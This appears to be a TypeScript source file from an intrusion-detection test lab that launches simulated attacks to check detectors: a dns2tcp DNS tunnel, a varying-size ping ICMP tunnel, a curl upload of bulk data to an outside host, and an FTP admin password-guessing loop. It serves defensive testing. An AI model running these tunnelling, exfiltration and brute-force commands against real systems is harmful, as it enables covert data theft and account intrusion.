// SPDX-License-Identifier: AGPL-3.0-or-later
// What hides in ordinary traffic, with ordinary tools and a tunnel: dns2tcp, ping and curl.
import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { attacker, INSIDER, OUTSIDE, victim } from "./attack-topology.ts";
import { type Lab, until } from "./lab.ts";
import { type LiveAttack, SOON_SECONDS, script } from "./live-attack.ts";

export const FTP_PORT = 21;
export const UPLOAD_PORT = 9000;
export const TUNNEL = "tunnel.example";
/** The victim at which the tunnel ends. */
const TUNNEL_END = victim(14);
const CARRIED_OUT_BYTES = 150_000_000;

/** Tunnels, guessed passwords, and data that is carried out. */
export const covertAttacks: readonly LiveAttack[] = [
  {
    detector: "dns_tunnel",
    entity: { source: attacker(14), domain: TUNNEL },
    packets: `src host ${attacker(14)} and dst host ${TUNNEL_END}`,
    withinSeconds: SOON_SECONDS,
    launch: throughTunnel,
  },
  {
    detector: "icmp_tunnel",
    entity: { source: attacker(15), destination: victim(15) },
    packets: `src host ${attacker(15)}`,
    withinSeconds: SOON_SECONDS,
    launch: script(
      `for bytes in $(seq 100 23 1100); do ping -q -c 1 -W 1 -s $bytes ${victim(15)}; done`,
    ),
  },
  {
    detector: "exfiltration",
    entity: { source: INSIDER, destination: OUTSIDE },
    packets: `src host ${INSIDER} and dst host ${OUTSIDE}`,
    withinSeconds: SOON_SECONDS,
    launch: (lab) =>
      lab
        .exec(
          ...([lab.b, "timeout", "20", "bash", "-c"] as const),
          `head -c ${CARRIED_OUT_BYTES} /dev/zero | curl -s -T - --limit-rate 75M http://${OUTSIDE}:${UPLOAD_PORT}/`,
        )
        .catch(String),
  },
  {
    detector: "brute_force",
    entity: { source: attacker(17), destination: victim(17), port: FTP_PORT },
    packets: `src host ${attacker(17)}`,
    withinSeconds: SOON_SECONDS,
    launch: script(
      `for guess in $(seq 20); do curl -s -m 5 ftp://admin:guess$guess@${victim(17)}:${FTP_PORT}/; done`,
    ),
  },
];

/** The far end of the tunnel: dns2tcp's server, for as long as the lab is open. */
export function startTunnelEnd(lab: Lab, folder: string): void {
  const config = join(folder, "dns2tcpd.conf");
  const lines = [
    ...[`listen = ${TUNNEL_END}`, "port = 53", "user = nobody", "chroot = /tmp"],
    ...[`domain = ${TUNNEL}`, `resources = web:${TUNNEL_END}:8080`, ""],
  ];
  writeFileSync(config, lines.join("\n"));
  lab.spawn(lab.b, "dns2tcpd", ["-F", "-f", config], { stdio: "ignore" });
}

/** A page fetched through dns2tcp. */
async function throughTunnel(lab: Lab): Promise<string> {
  const tunnel = ["-z", TUNNEL, "-r", "web", "-l", "8888", TUNNEL_END];
  lab.spawn(lab.a, "dns2tcpc", tunnel, { stdio: "ignore" });
  const page = "http://127.0.0.1:8888/?bytes=30000";
  return until("a page through the tunnel", 20_000, () =>
    lab.exec(lab.a, "curl", "-s", "-m", "15", page),
  ).catch(String);
}
